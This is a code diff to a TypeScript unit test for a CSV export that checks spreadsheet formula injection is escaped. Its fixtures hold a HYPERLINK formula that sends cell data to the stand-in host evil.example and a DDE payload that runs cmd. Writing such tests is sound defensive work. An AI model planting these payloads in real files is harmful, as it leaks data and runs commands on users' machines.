@@ -17,6 +17,8 @@ const row = (overrides: Partial<KeyFigureRow>): KeyFigureRow => ({
   baseline: null,
   period: null,
   source: null,
+  evidence: null,
+  target: null,
   ...overrides,
 });
 
@@ -32,13 +34,13 @@ describe('keyFiguresCsv', () => {
       row({ id: 'f2', value: 12, label: '\t=1+1 tab-led', source: "=cmd|' /C calc'!A0" }),
     ]);
     const [, first, second] = parse(csv.replace(/^\ufeff/, '')) as string[][];
-    expect(first!.slice(9)).toEqual([
+    expect(first!.slice(9, 13)).toEqual([
       `'=HYPERLINK("http://evil.example/?"&A1,"klik")`,
       "'+SUM(1,1)",
       "'-2+3",
       "'@SUM(1)",
     ]);
-    expect(second!.slice(9)).toEqual(["'\t=1+1 tab-led", '', '', "'=cmd|' /C calc'!A0"]);
+    expect(second!.slice(9, 13)).toEqual(["'\t=1+1 tab-led", '', '', "'=cmd|' /C calc'!A0"]);
   });
 
   it('keeps numbers numbers, negative ones included', () => {
